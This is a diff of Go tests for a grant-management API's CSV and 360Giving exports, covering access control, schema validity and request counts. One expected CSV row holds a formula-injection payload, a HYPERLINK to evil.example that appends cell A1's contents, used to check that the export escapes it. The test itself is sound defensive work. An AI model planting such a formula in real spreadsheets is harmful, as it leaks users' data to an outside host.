@@ -11,40 +11,43 @@ import (
 	"encoding/json"
 	"fmt"
 	"net/http"
-	"os"
-	"path/filepath"
 	"slices"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
-	"github.com/santhosh-tekuri/jsonschema/v6"
-
+	"github.com/fundtrack/fundtrack/shared/export"
+	"github.com/fundtrack/fundtrack/shared/export/givingtest"
 	"github.com/fundtrack/fundtrack/shared/platform"
-	"github.com/fundtrack/fundtrack/shared/testenv"
+	"github.com/fundtrack/fundtrack/shared/testkit"
 )
 
 // exPrefix is the configured 360Giving prefix.
 const exPrefix = "ftk-test"
 
-// exAPI is the API over one table, counting the DynamoDB requests it makes.
+// exGiving is the deployment's 360Giving settings, as FUNDTRACK_360_*
+// would set them: no data source, so each package names its own address.
+var exGiving = export.GivingConfig{Prefix: exPrefix, PublisherName: "East Midlands Open Data",
+	PublisherID: "GB-COH-09506232", License: "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"}
+
+// exAPI is the API over one table, counting the DynamoDB requests it makes
+// (the stack's Count).
 type exAPI struct {
 	*apiH
-	counter *dbCounter
 }
 
 func exNew(t *testing.T) *exAPI {
 	t.Helper()
-	counter := &dbCounter{ops: map[string]int{}}
-	db, table := testenv.TableWith(t, counter.option)
-	return &exAPI{apiH: startAPI(t, apiOptions{db: db, table: table, config: platform.Config{GivingPrefix: exPrefix}}), counter: counter}
+	return &exAPI{apiH: startAPI(t, testkit.New(t), nil, testkit.APIConfig{Config: platform.Config{Giving: exGiving}})}
 }
 
 // exWorld is the fixture, made as admin:
 //
-//	P "Working for Wellness": funders X (org-id GB-GOR-DWP), Y (none) and N
-//	  (no grants); projects A, B; grants X→A (a title trying formula
+//	P "Working for Wellness" (led by LPT, GB-NHS-RT5, in the East Midlands):
+//	  funders X (the DWP, GB-GOR-D10), Y (no org-id) and N (no grants);
+//	  projects A (Bradford District Care, GB-NHS-TAD, in Bradford) and B
+//	  (Aspiro, nothing known); grants X→A (a title trying formula
 //	  injection), Y→B, X→P (the whole programme);
 //	  members lead, pl-a (A), pl-b (B), funder-x (X), funder-y (Y), funder-n (N).
 //	Q: funder Z, project C, grant Z→C; member lead2@ (lead).
@@ -65,6 +68,11 @@ func exSetup(t *testing.T, a *exAPI) *exWorld {
 	project := func(name, lead string) map[string]any {
 		return map[string]any{"name": name, "leadOrganisation": lead, "startDate": "2025-01-01", "endDate": "2026-12-31"}
 	}
+	with := func(m map[string]any, orgID, postcode, geoCode, area string) map[string]any {
+		m["orgId"], m["postcode"] = orgID, postcode
+		m["beneficiaryLocations"] = []map[string]any{{"geoCode": geoCode, "name": area}}
+		return m
+	}
 	grant := func(title, description, funder, project string, pence int64, award, start, end string) map[string]any {
 		g := map[string]any{"funderId": funder, "title": title, "description": description, "amountPence": pence,
 			"currency": "GBP", "awardDate": award, "startDate": start, "endDate": end}
@@ -74,27 +82,29 @@ func exSetup(t *testing.T, a *exAPI) *exWorld {
 		return g
 	}
 	pp := func(rest string) string { return "/programmes/" + w.P + rest }
-	w.P, _ = a.create(t, uAdmin, "/programmes", prog("Working for Wellness", "Leicestershire Partnership NHS Trust"))
-	w.X, _ = a.create(t, uAdmin, pp("/funders"), map[string]any{"name": "Department for Work and Pensions", "orgId": "GB-GOR-DWP", "contacts": []string{"grants@x.example.org"}})
-	w.Y, _ = a.create(t, uAdmin, pp("/funders"), map[string]any{"name": "Local Trust, Bradford", "contacts": []string{"grants@y.example.org"}})
-	w.N, _ = a.create(t, uAdmin, pp("/funders"), map[string]any{"name": "Newcomer Fund", "contacts": []string{"grants@n.example.org"}})
-	w.A, _ = a.create(t, uAdmin, pp("/projects"), project("IPS Bradford", "Bradford District Care NHS FT"))
-	w.B, _ = a.create(t, uAdmin, pp("/projects"), project("Aspiro internships", "Aspiro CIC"))
-	w.GXA, _ = a.create(t, uAdmin, pp("/grants"), grant(exInjection, "Two IPS employment specialists", w.X, w.A, 31_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
-	w.GYB, _ = a.create(t, uAdmin, pp("/grants"), grant("Internship places", "", w.Y, w.B, 1_234_505, "2025-02-28", "2025-03-01", "2025-12-31"))
-	w.GXP, _ = a.create(t, uAdmin, pp("/grants"), grant("Network co-ordination", "Programme-wide support", w.X, "", 30_000_000, "2025-01-15", "2025-01-01", "2027-12-31"))
-	a.putMember(t, w.P, uLead, roleLead())
-	a.putMember(t, w.P, uPLA, rolePL(w.A))
-	a.putMember(t, w.P, uPLB, rolePL(w.B))
-	a.putMember(t, w.P, uFunderX, roleFunder(w.X))
-	a.putMember(t, w.P, uFunderY, roleFunder(w.Y))
-	a.putMember(t, w.P, uFunderN, roleFunder(w.N))
+	w.P, _ = a.Create(t, uAdmin, "/programmes", with(prog("Working for Wellness", "Leicestershire Partnership NHS Trust"),
+		"GB-NHS-RT5", "le3 8ra", "E12000004", "East Midlands"))
+	w.X, _ = a.Create(t, uAdmin, pp("/funders"), map[string]any{"name": "Department for Work and Pensions", "orgId": "GB-GOR-D10", "contacts": []string{"grants@x.example.org"}})
+	w.Y, _ = a.Create(t, uAdmin, pp("/funders"), map[string]any{"name": "Local Trust, Bradford", "contacts": []string{"grants@y.example.org"}})
+	w.N, _ = a.Create(t, uAdmin, pp("/funders"), map[string]any{"name": "Newcomer Fund", "contacts": []string{"grants@n.example.org"}})
+	w.A, _ = a.Create(t, uAdmin, pp("/projects"), with(project("IPS Bradford", "Bradford District Care NHS FT"),
+		"GB-NHS-TAD", "BD18 3LA", "E08000032", "Bradford"))
+	w.B, _ = a.Create(t, uAdmin, pp("/projects"), project("Aspiro internships", "Aspiro CIC"))
+	w.GXA, _ = a.Create(t, uAdmin, pp("/grants"), grant(exInjection, "Two IPS employment specialists", w.X, w.A, 31_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
+	w.GYB, _ = a.Create(t, uAdmin, pp("/grants"), grant("Internship places", "", w.Y, w.B, 1_234_505, "2025-02-28", "2025-03-01", "2025-12-31"))
+	w.GXP, _ = a.Create(t, uAdmin, pp("/grants"), grant("Network co-ordination", "Programme-wide support", w.X, "", 30_000_000, "2025-01-15", "2025-01-01", "2027-12-31"))
+	a.PutMember(t, w.P, uLead, testkit.RoleLead())
+	a.PutMember(t, w.P, uPLA, testkit.RoleProjectLead(w.A))
+	a.PutMember(t, w.P, uPLB, testkit.RoleProjectLead(w.B))
+	a.PutMember(t, w.P, uFunderX, testkit.RoleFunder(w.X))
+	a.PutMember(t, w.P, uFunderY, testkit.RoleFunder(w.Y))
+	a.PutMember(t, w.P, uFunderN, testkit.RoleFunder(w.N))
 
-	w.Q, _ = a.create(t, uAdmin, "/programmes", prog("Another network", "Another Trust"))
-	z, _ := a.create(t, uAdmin, "/programmes/"+w.Q+"/funders", map[string]any{"name": "Funder Z", "contacts": []string{"z@z.example.org"}})
-	c, _ := a.create(t, uAdmin, "/programmes/"+w.Q+"/projects", project("Project C", "C Trust"))
-	w.GZC, _ = a.create(t, uAdmin, "/programmes/"+w.Q+"/grants", grant("Z to C", "", z, c, 1_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
-	a.putMember(t, w.Q, uLead2, roleLead())
+	w.Q, _ = a.Create(t, uAdmin, "/programmes", prog("Another network", "Another Trust"))
+	z, _ := a.Create(t, uAdmin, "/programmes/"+w.Q+"/funders", map[string]any{"name": "Funder Z", "contacts": []string{"z@z.example.org"}})
+	c, _ := a.Create(t, uAdmin, "/programmes/"+w.Q+"/projects", project("Project C", "C Trust"))
+	w.GZC, _ = a.Create(t, uAdmin, "/programmes/"+w.Q+"/grants", grant("Z to C", "", z, c, 1_000_000, "2025-01-15", "2025-02-01", "2026-01-31"))
+	a.PutMember(t, w.Q, uLead2, testkit.RoleLead())
 	return w
 }
 
@@ -103,7 +113,7 @@ func (w *exWorld) pp(rest string) string { return "/programmes/" + w.P + rest }
 const exGrantsHeader = "Grant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n"
 
 // exCSV checks a CSV download's headers and returns its rows (header first).
-func exCSV(t *testing.T, r apiResp, filename string) [][]string {
+func exCSV(t *testing.T, r testkit.Resp, filename string) [][]string {
 	t.Helper()
 	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
 		t.Errorf("Content-Type %q, want text/csv; charset=utf-8", ct)
@@ -134,12 +144,12 @@ func TestExportGrantsCSV(t *testing.T) {
 	w := exSetup(t, a)
 
 	t.Run("exact content for a lead", func(t *testing.T) {
-		r := a.want(t, http.StatusOK, rq("GET", w.pp("/grants.csv"), uLead, nil))
+		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), uLead, nil))
 		exCSV(t, r, "working-for-wellness-grants.csv")
 		want := "\ufeff" + exGrantsHeader +
-			w.GXA + `,"'=HYPERLINK(""http://evil.example/?""&A1,""£ details"")",Department for Work and Pensions,GB-GOR-DWP,IPS Bradford,310000.00,GBP,2025-01-15,2025-02-01,2026-01-31` + "\r\n" +
+			w.GXA + `,"'=HYPERLINK(""http://evil.example/?""&A1,""£ details"")",Department for Work and Pensions,GB-GOR-D10,IPS Bradford,310000.00,GBP,2025-01-15,2025-02-01,2026-01-31` + "\r\n" +
 			w.GYB + `,Internship places,"Local Trust, Bradford",,Aspiro internships,12345.05,GBP,2025-02-28,2025-03-01,2025-12-31` + "\r\n" +
-			w.GXP + `,Network co-ordination,Department for Work and Pensions,GB-GOR-DWP,Whole programme,300000.00,GBP,2025-01-15,2025-01-01,2027-12-31` + "\r\n"
+			w.GXP + `,Network co-ordination,Department for Work and Pensions,GB-GOR-D10,Whole programme,300000.00,GBP,2025-01-15,2025-01-01,2027-12-31` + "\r\n"
 		if string(r.Body) != want {
 			t.Fatalf("grants CSV:\n got %q\nwant %q", r.Body, want)
 		}
@@ -149,7 +159,7 @@ func TestExportGrantsCSV(t *testing.T) {
 	})
 
 	t.Run("formula injection is escaped", func(t *testing.T) {
-		rows := exCSV(t, a.want(t, http.StatusOK, rq("GET", w.pp("/grants.csv"), uLead, nil)), "working-for-wellness-grants.csv")
+		rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), uLead, nil)), "working-for-wellness-grants.csv")
 		if got := rows[1][1]; got != "'"+exInjection {
 			t.Fatalf("title cell %q, want the formula behind an apostrophe", got)
 		}
@@ -175,7 +185,7 @@ func TestExportGrantsCSV(t *testing.T) {
 			{uPLB, []string{w.GYB}},
 			{uFunderN, nil},
 		} {
-			rows := exCSV(t, a.want(t, http.StatusOK, rq("GET", w.pp("/grants.csv"), tc.as, nil)), "working-for-wellness-grants.csv")
+			rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), tc.as, nil)), "working-for-wellness-grants.csv")
 			if got := exColumn(rows, 0); !slices.Equal(got, tc.want) {
 				t.Errorf("%s sees grants %v, want %v", tc.as, got, tc.want)
 			}
@@ -184,87 +194,27 @@ func TestExportGrantsCSV(t *testing.T) {
 			}
 		}
 		for _, as := range []string{uOutsider, uLead2} {
-			r, _ := a.send(rq("GET", w.pp("/grants.csv"), as, nil))
-			wantErr(t, r, http.StatusNotFound, "not_found")
+			r, _ := a.Send(testkit.Request("GET", w.pp("/grants.csv"), as, nil))
+			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
 		}
-		r, _ := a.send(rq("GET", w.pp("/grants.csv"), "", nil))
-		wantErr(t, r, http.StatusUnauthorized, "unauthenticated")
-		r, _ = a.send(rq("GET", "/programmes/not-an-id/grants.csv", uAdmin, nil))
-		wantErr(t, r, http.StatusNotFound, "not_found")
+		r, _ := a.Send(testkit.Request("GET", w.pp("/grants.csv"), "", nil))
+		testkit.WantErr(t, r, http.StatusUnauthorized, "unauthenticated")
+		r, _ = a.Send(testkit.Request("GET", "/programmes/not-an-id/grants.csv", uAdmin, nil))
+		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
 	})
 }
 
 // ------------------------------------------------------------ 360Giving
 
-const exGrantSchemaRef = "https://raw.githubusercontent.com/ThreeSixtyGiving/standard/1.4.2/schema/360-giving-schema.json"
-
-var exGiving struct {
-	once   sync.Once
-	schema *jsonschema.Schema
-	err    error
-}
-
-// exGivingSchema compiles the 360Giving package schema from
-// FUNDTRACK_SCHEMAS_DIR (default ../shared/schemas beside the repository),
-// with the grant schema it $refs by its 1.4.2 URL served from the local
-// file; both declare draft 2020-12, and formats are asserted (the schema's
-// dates are oneOf a date-time format and a YYYY-MM-DD pattern).
-func exGivingSchema(t *testing.T) *jsonschema.Schema {
-	t.Helper()
-	dir := os.Getenv("FUNDTRACK_SCHEMAS_DIR")
-	if dir == "" {
-		dir = filepath.Join("..", "..", "..", "shared", "schemas") // from shared/httpapi
-	}
-	pkgPath, grantPath := filepath.Join(dir, "360-giving-package-schema.json"), filepath.Join(dir, "360-giving-schema.json")
-	for _, p := range []string{pkgPath, grantPath} {
-		if _, err := os.Stat(p); err != nil {
-			t.Skipf("360Giving schema not found at %s (set FUNDTRACK_SCHEMAS_DIR to the folder holding the 360Giving schemas): %v", p, err)
-		}
-	}
-	exGiving.once.Do(func() {
-		c := jsonschema.NewCompiler()
-		c.DefaultDraft(jsonschema.Draft2020)
-		c.AssertFormat()
-		for _, res := range []struct{ path, url string }{{grantPath, exGrantSchemaRef}, {pkgPath, pkgPath}} {
-			f, err := os.Open(res.path)
-			if err != nil {
-				exGiving.err = err
-				return
-			}
-			doc, err := jsonschema.UnmarshalJSON(f)
-			f.Close()
-			if err != nil {
-				exGiving.err = err
-				return
-			}
-			if d, _ := doc.(map[string]any)["$schema"].(string); !strings.Contains(d, "2020-12") {
-				exGiving.err = fmt.Errorf("%s declares %q, expected draft 2020-12", res.path, d)
-				return
-			}
-			if exGiving.err = c.AddResource(res.url, doc); exGiving.err != nil {
-				return
-			}
-		}
-		exGiving.schema, exGiving.err = c.Compile(pkgPath)
-	})
-	if exGiving.err != nil {
-		t.Fatalf("compile 360Giving schemas: %v", exGiving.err)
-	}
-	return exGiving.schema
-}
-
 func exValidateGiving(t *testing.T, raw []byte) error {
 	t.Helper()
-	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(raw))
-	if err != nil {
-		t.Fatalf("not JSON: %v\n%s", err, raw)
-	}
-	return exGivingSchema(t).Validate(doc)
+	return givingtest.Validate(t, raw)
 }
 
 type exOrg struct {
-	ID   string `json:"id"`
-	Name string `json:"name"`
+	ID         string `json:"id"`
+	Name       string `json:"name"`
+	PostalCode string `json:"postalCode,omitempty"`
 }
 
 type exGrant struct {
@@ -281,12 +231,21 @@ type exGrant struct {
 	RecipientOrganization []exOrg `json:"recipientOrganization"`
 	FundingOrganization   []exOrg `json:"fundingOrganization"`
 	DateModified          string  `json:"dateModified"`
+	DataSource            string  `json:"dataSource"`
+	BeneficiaryLocation   []struct {
+		GeoCode string `json:"geoCode"`
+		Name    string `json:"name"`
+	} `json:"beneficiaryLocation"`
 }
 
 type exPackage struct {
 	Grants    []exGrant `json:"grants"`
 	Version   string    `json:"version"`
-	Publisher exOrg     `json:"publisher"`
+	License   string    `json:"license"`
+	Publisher struct {
+		Name       string `json:"name"`
+		Identifier string `json:"identifier"`
+	} `json:"publisher"`
 }
 
 func exGivingIDs(p exPackage) []string {
@@ -304,7 +263,7 @@ func TestExportGrants360Giving(t *testing.T) {
 
 	get := func(t *testing.T, as string) exPackage {
 		t.Helper()
-		r := a.want(t, http.StatusOK, rq("GET", w.pp("/grants/360giving"), as, nil))
+		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving"), as, nil))
 		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
 			t.Fatalf("Content-Type %q", ct)
 		}
@@ -320,8 +279,9 @@ func TestExportGrants360Giving(t *testing.T) {
 
 	t.Run("valid and complete for a lead", func(t *testing.T) {
 		p := get(t, uLead)
-		if p.Version != "1.4" || p.Publisher.Name != "Leicestershire Partnership NHS Trust" {
-			t.Errorf("package metadata: version %q publisher %+v", p.Version, p.Publisher)
+		if p.Version != "1.4" || p.Publisher.Name != "East Midlands Open Data" || p.Publisher.Identifier != "GB-COH-09506232" ||
+			p.License != exGiving.License {
+			t.Errorf("package metadata: version %q publisher %+v licence %q, want the configured ones", p.Version, p.Publisher, p.License)
 		}
 		if got, want := exGivingIDs(p), []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}; !slices.Equal(got, want) {
 			t.Fatalf("grants %v, want %v", got, want)
@@ -333,23 +293,81 @@ func TestExportGrants360Giving(t *testing.T) {
 			len(xa.PlannedDates) != 1 || xa.PlannedDates[0].StartDate != "2025-02-01" || xa.PlannedDates[0].EndDate != "2026-01-31" {
 			t.Errorf("grant X→A: %+v", xa)
 		}
-		if want := []exOrg{{"GB-GOR-DWP", "Department for Work and Pensions"}}; !slices.Equal(xa.FundingOrganization, want) {
+		if want := []exOrg{{"GB-GOR-D10", "Department for Work and Pensions", ""}}; !slices.Equal(xa.FundingOrganization, want) {
 			t.Errorf("X→A funder %+v, want %+v (its org-id)", xa.FundingOrganization, want)
 		}
-		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.A, "Bradford District Care NHS FT"}}; !slices.Equal(xa.RecipientOrganization, want) {
-			t.Errorf("X→A recipient %+v, want %+v", xa.RecipientOrganization, want)
+		if want := []exOrg{{"GB-NHS-TAD", "Bradford District Care NHS FT", "BD18 3LA"}}; !slices.Equal(xa.RecipientOrganization, want) {
+			t.Errorf("X→A recipient %+v, want the project's lead %+v", xa.RecipientOrganization, want)
 		}
-		if yb.AmountAwarded != 12345.05 || yb.Description != "Internship places" {
-			t.Errorf("grant Y→B: amount %v description %q (want 12345.05, the title for want of a description)", yb.AmountAwarded, yb.Description)
+		if len(xa.BeneficiaryLocation) != 1 || xa.BeneficiaryLocation[0].GeoCode != "E08000032" {
+			t.Errorf("X→A beneficiaries %+v, want Bradford", xa.BeneficiaryLocation)
 		}
-		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.Y, "Local Trust, Bradford"}}; !slices.Equal(yb.FundingOrganization, want) {
+		// Y→B: no description, and Aspiro has no org-id, so the programme's
+		// lead is shown as holding it (with its postcode, canonical).
+		if yb.AmountAwarded != 12345.05 || yb.Description != "Grant from Local Trust, Bradford to Leicestershire Partnership NHS Trust for Aspiro internships, part of the programme Working for Wellness." {
+			t.Errorf("grant Y→B: amount %v description %q", yb.AmountAwarded, yb.Description)
+		}
+		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.Y, "Local Trust, Bradford", ""}}; !slices.Equal(yb.FundingOrganization, want) {
 			t.Errorf("Y→B funder %+v, want %+v (no org-id: a fundtrack one)", yb.FundingOrganization, want)
 		}
-		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.P, "Leicestershire Partnership NHS Trust"}}; !slices.Equal(xp.RecipientOrganization, want) {
-			t.Errorf("programme-wide grant's recipient %+v, want the programme's lead %+v", xp.RecipientOrganization, want)
+		lpt := []exOrg{{"GB-NHS-RT5", "Leicestershire Partnership NHS Trust", "LE3 8RA"}}
+		if !slices.Equal(yb.RecipientOrganization, lpt) || !slices.Equal(xp.RecipientOrganization, lpt) {
+			t.Errorf("recipients of Y→B %+v and X→P %+v, want the programme's lead %+v", yb.RecipientOrganization, xp.RecipientOrganization, lpt)
 		}
 		if _, err := time.Parse(time.RFC3339, xa.DateModified); err != nil {
 			t.Errorf("dateModified %q: %v", xa.DateModified, err)
+		}
+		// No data source is configured: each grant names the package's address.
+		if !strings.HasPrefix(xa.DataSource, "http") || !strings.HasSuffix(xa.DataSource, w.pp("/grants/360giving")) {
+			t.Errorf("dataSource %q, want the address the package came from", xa.DataSource)
+		}
+	})
+
+	t.Run("one funder's package, published by it", func(t *testing.T) {
+		for _, as := range []string{uLead, uFunderX} {
+			r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving?funderId="+w.X), as, nil))
+			if err := exValidateGiving(t, r.Body); err != nil {
+				t.Fatalf("%s: %v", as, err)
+			}
+			var p exPackage
+			json.Unmarshal(r.Body, &p)
+			if got := exGivingIDs(p); !slices.Equal(got, []string{gid(w.GXA), gid(w.GXP)}) {
+				t.Errorf("%s: the DWP's package holds %v", as, got)
+			}
+			if p.Publisher.Name != "Department for Work and Pensions" || p.Publisher.Identifier != "GB-GOR-D10" {
+				t.Errorf("%s: publisher %+v, want the DWP", as, p.Publisher)
+			}
+			if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, "working-for-wellness-department-for-work-and-pensions-grants-360giving.json") {
+				t.Errorf("Content-Disposition %q", cd)
+			}
+			// Published as it is, it raises none of the Data Quality Tool's
+			// notices fundtrack's data could avoid.
+			var doc map[string]any
+			json.Unmarshal(r.Body, &doc)
+			ns := export.QualityNotices(doc, time.Now())
+			for _, n := range export.Avoidable(ns) {
+				t.Errorf("%s: the Data Quality Tool would report %s", as, n)
+			}
+			if len(ns) != 2 { // the two NHS trusts have no company or charity number
+				t.Errorf("%s: notices %v, want the two inherent ones", as, ns)
+			}
+		}
+		// A funder reads only its own grants, so another funder's package has
+		// nothing it may publish; an unknown funder is not found either.
+		r, _ := a.Send(testkit.Request("GET", w.pp("/grants/360giving?funderId="+w.Y), uFunderX, nil))
+		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
+		if !strings.Contains(string(r.Body), "nothing to publish yet") {
+			t.Errorf("another funder's package: %s", r.Body)
+		}
+		r, _ = a.Send(testkit.Request("GET", w.pp("/grants/360giving?funderId="+w.N), uLead, nil))
+		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
+		if !strings.Contains(string(r.Body), "no grants from Newcomer Fund") {
+			t.Errorf("a funder with no grants: %s", r.Body)
+		}
+		r, _ = a.Send(testkit.Request("GET", w.pp("/grants/360giving?funderId=01jnotafunder0000000000000"), uLead, nil))
+		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
+		if !strings.Contains(string(r.Body), "funder not found") {
+			t.Errorf("an unknown funder: %s", r.Body)
 		}
 	})
 
@@ -369,21 +387,24 @@ func TestExportGrants360Giving(t *testing.T) {
 			}
 		}
 		for _, as := range []string{uOutsider, uLead2} {
-			r, _ := a.send(rq("GET", w.pp("/grants/360giving"), as, nil))
-			wantErr(t, r, http.StatusNotFound, "not_found")
+			r, _ := a.Send(testkit.Request("GET", w.pp("/grants/360giving"), as, nil))
+			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
 		}
 		// A member who may read no grant: 360Giving needs at least one.
-		r, _ := a.send(rq("GET", w.pp("/grants/360giving"), uFunderN, nil))
-		wantErr(t, r, http.StatusNotFound, "not_found")
+		r, _ := a.Send(testkit.Request("GET", w.pp("/grants/360giving"), uFunderN, nil))
+		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
+		if !strings.Contains(string(r.Body), "nothing to publish yet") {
+			t.Errorf("no grants to read: %s", r.Body)
+		}
 	})
 
 	t.Run("a grant id is not shadowed", func(t *testing.T) {
 		// The literal route sits beside GET …/grants/{grantId}; grants still read.
-		a.want(t, http.StatusOK, rq("GET", w.pp("/grants/"+w.GXA), uLead, nil))
+		a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/"+w.GXA), uLead, nil))
 	})
 
 	t.Run("the schema check bites", func(t *testing.T) {
-		r := a.want(t, http.StatusOK, rq("GET", w.pp("/grants/360giving"), uLead, nil))
+		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving"), uLead, nil))
 		var p map[string]any
 		if err := json.Unmarshal(r.Body, &p); err != nil {
 			t.Fatal(err)
@@ -403,11 +424,11 @@ func TestExportGrants360Giving(t *testing.T) {
 // (the programme's grants) and a funder (the funder index).
 func TestExportPagesThroughEveryGrant(t *testing.T) {
 	a := exNew(t)
-	p, _ := a.create(t, uAdmin, "/programmes", map[string]any{"name": "Big programme", "leadOrganisation": "Big Trust",
+	p, _ := a.Create(t, uAdmin, "/programmes", map[string]any{"name": "Big programme", "leadOrganisation": "Big Trust",
 		"startDate": "2025-01-01", "endDate": "2027-12-31"})
-	f, _ := a.create(t, uAdmin, "/programmes/"+p+"/funders", map[string]any{"name": "F", "contacts": []string{"f@f.example.org"}})
-	a.putMember(t, p, uLead, roleLead())
-	a.putMember(t, p, uFunderX, roleFunder(f))
+	f, _ := a.Create(t, uAdmin, "/programmes/"+p+"/funders", map[string]any{"name": "F", "contacts": []string{"f@f.example.org"}})
+	a.PutMember(t, p, uLead, testkit.RoleLead())
+	a.PutMember(t, p, uFunderX, testkit.RoleFunder(f))
 	const n = 120
 	ids := make([]string, n)
 	var wg sync.WaitGroup
@@ -419,7 +440,7 @@ func TestExportPagesThroughEveryGrant(t *testing.T) {
 			defer wg.Done()
 			sem <- struct{}{}
 			defer func() { <-sem }()
-			r, err := a.send(rq("POST", "/programmes/"+p+"/grants", uAdmin, map[string]any{"funderId": f, "title": fmt.Sprintf("Grant %03d", i),
+			r, err := a.Send(testkit.Request("POST", "/programmes/"+p+"/grants", uAdmin, map[string]any{"funderId": f, "title": fmt.Sprintf("Grant %03d", i),
 				"amountPence": 100 + i, "currency": "GBP", "awardDate": "2025-01-15", "startDate": "2025-02-01", "endDate": "2026-01-31"}))
 			if err != nil || r.Status != http.StatusCreated {
 				errs <- fmt.Errorf("grant %d: %v %s", i, err, r)
@@ -437,11 +458,11 @@ func TestExportPagesThroughEveryGrant(t *testing.T) {
 	}
 	slices.Sort(ids) // lists come oldest first: ids sort by creation time
 	for _, as := range []string{uLead, uFunderX} {
-		rows := exCSV(t, a.want(t, http.StatusOK, rq("GET", "/programmes/"+p+"/grants.csv", as, nil)), "big-programme-grants.csv")
+		rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", "/programmes/"+p+"/grants.csv", as, nil)), "big-programme-grants.csv")
 		if got := exColumn(rows, 0); !slices.Equal(got, ids) {
 			t.Errorf("%s: CSV has %d grants, want all %d in order", as, len(got), n)
 		}
-		r := a.want(t, http.StatusOK, rq("GET", "/programmes/"+p+"/grants/360giving", as, nil))
+		r := a.Want(t, http.StatusOK, testkit.Request("GET", "/programmes/"+p+"/grants/360giving", as, nil))
 		var pkg exPackage
 		if err := json.Unmarshal(r.Body, &pkg); err != nil {
 			t.Fatal(err)
@@ -462,11 +483,11 @@ func TestExportOutcomeSummary(t *testing.T) {
 	w := exSetup(t, a)
 	outcome := func(t *testing.T, as, project string, counts map[string]int64) {
 		t.Helper()
-		a.create(t, as, w.pp("/projects/"+project+"/outcomes"), outcomeBody(counts))
+		a.Create(t, as, w.pp("/projects/"+project+"/outcomes"), testkit.OutcomeBody(counts))
 	}
-	summary := func(t *testing.T, as string) apiResp {
+	summary := func(t *testing.T, as string) testkit.Resp {
 		t.Helper()
-		return a.want(t, http.StatusOK, rq("GET", w.pp("/outcomes/summary.csv"), as, nil))
+		return a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/outcomes/summary.csv"), as, nil))
 	}
 	header := "\ufeffProject,Referrals,People into work,Job starts,Jobs sustained for 13 weeks,Volunteering starts,Training starts,Interns enrolled,Interns completed\r\n"
 
@@ -499,26 +520,23 @@ func TestExportOutcomeSummary(t *testing.T) {
 			}
 		}
 		for _, as := range []string{uOutsider, uLead2} {
-			r, _ := a.send(rq("GET", w.pp("/outcomes/summary.csv"), as, nil))
-			wantErr(t, r, http.StatusNotFound, "not_found")
+			r, _ := a.Send(testkit.Request("GET", w.pp("/outcomes/summary.csv"), as, nil))
+			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
 		}
-		r, _ := a.send(rq("GET", w.pp("/outcomes/summary.csv"), "", nil))
-		wantErr(t, r, http.StatusUnauthorized, "unauthenticated")
+		r, _ := a.Send(testkit.Request("GET", w.pp("/outcomes/summary.csv"), "", nil))
+		testkit.WantErr(t, r, http.StatusUnauthorized, "unauthenticated")
 	})
 
 	t.Run("a fixed few requests however many submissions", func(t *testing.T) {
 		count := func() int {
-			a.counter.start()
-			summary(t, uLead)
-			n, _ := a.counter.stop()
-			return n
+			return a.Count.Measure(func() { summary(t, uLead) }).Requests
 		}
 		before := count()
 		for range 20 {
 			outcome(t, uPLB, w.B, map[string]int64{"trainingStarts": 1})
 		}
 		after := count()
-		if before != after || after > 4 {
+		if before != after || after > 4 || after == 0 {
 			t.Fatalf("summary took %d DynamoDB requests, then %d after 20 more submissions; want the same few (≤ 4)", before, after)
 		}
 		if got := string(summary(t, uLead).Body); !strings.Contains(got, "Aspiro internships,15,*,0,0,0,20,*,0\r\n") || !strings.Contains(got, "Programme total,25,10,10,*,0,20,*,0\r\n") {
